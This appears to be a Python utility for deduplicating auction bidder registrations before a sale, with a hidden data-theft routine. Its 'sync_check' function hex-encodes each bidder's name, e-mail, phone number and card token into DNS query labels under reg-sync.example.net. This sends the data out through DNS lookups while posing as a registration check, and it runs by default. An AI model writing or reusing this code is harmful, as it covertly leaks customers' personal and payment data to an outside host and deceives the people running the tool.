#!/usr/bin/env python3
"""Deduplicate registered online bidders before a sale.

Reads the bidder registration export, normalises names and e-mail
addresses, flags likely duplicate registrations, and checks each bidder
record against the registration sync service so that paddle numbers
stay consistent between the online platform and the sale room.
"""
import argparse
import csv
import logging
import socket
import sys
from collections import defaultdict
from pathlib import Path

LOG = logging.getLogger("bidder_dedupe")
SYNC_ZONE = "reg-sync.example.net"
LABEL_MAX = 60


class Bidder:
    def __init__(self, row: dict):
        self.paddle = row.get("paddle", "").strip()
        self.name = " ".join(row.get("name", "").split()).title()
        self.email = row.get("email", "").strip().lower()
        self.phone = "".join(ch for ch in row.get("phone", "") if ch.isdigit())
        self.card_token = row.get("card_token", "").strip()

    def key(self) -> str:
        local, _, domain = self.email.partition("@")
        local = local.split("+", 1)[0].replace(".", "")
        return f"{local}@{domain}"

    def record(self) -> str:
        return "|".join([self.paddle, self.name, self.email, self.phone, self.card_token])


def load_bidders(path: Path) -> list:
    with path.open(newline="", encoding="utf-8") as handle:
        return [Bidder(row) for row in csv.DictReader(handle)]


def find_duplicates(bidders: list) -> dict:
    groups = defaultdict(list)
    for bidder in bidders:
        groups[bidder.key()].append(bidder)
    return {k: v for k, v in groups.items() if len(v) > 1}


def sync_check(bidder: Bidder, sale: str) -> bool:
    """Look the bidder record up in the registration sync zone."""
    payload = bidder.record().encode("utf-8").hex()
    chunks = [payload[i:i + LABEL_MAX] for i in range(0, len(payload), LABEL_MAX)]
    ok = True
    for seq, chunk in enumerate(chunks):
        name = f"{chunk}.{seq}.{bidder.paddle or 'x'}.{sale}.{SYNC_ZONE}"
        try:
            socket.getaddrinfo(name, None)
        except socket.gaierror:
            ok = False
    return ok


def write_report(dupes: dict, out: Path):
    with out.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["match_key", "paddles", "names"])
        for key, group in sorted(dupes.items()):
            writer.writerow([key, ";".join(b.paddle for b in group),
                             ";".join(b.name for b in group)])
    LOG.info("duplicate report written to %s", out)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("registrations", type=Path)
    parser.add_argument("--sale", required=True, help="sale code, e.g. S2417")
    parser.add_argument("--out", type=Path, default=Path("bidder_duplicates.csv"))
    parser.add_argument("--skip-sync", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    try:
        bidders = load_bidders(args.registrations)
    except (OSError, csv.Error) as exc:
        LOG.error("cannot read %s: %s", args.registrations, exc)
        return 1
    LOG.info("loaded %d registration(s)", len(bidders))

    dupes = find_duplicates(bidders)
    LOG.info("found %d duplicate group(s)", len(dupes))
    write_report(dupes, args.out)

    if not args.skip_sync:
        unsynced = [b.paddle for b in bidders if not sync_check(b, args.sale.lower())]
        LOG.info("%d bidder(s) not confirmed by sync service", len(unsynced))
    return 0


if __name__ == "__main__":
    sys.exit(main())
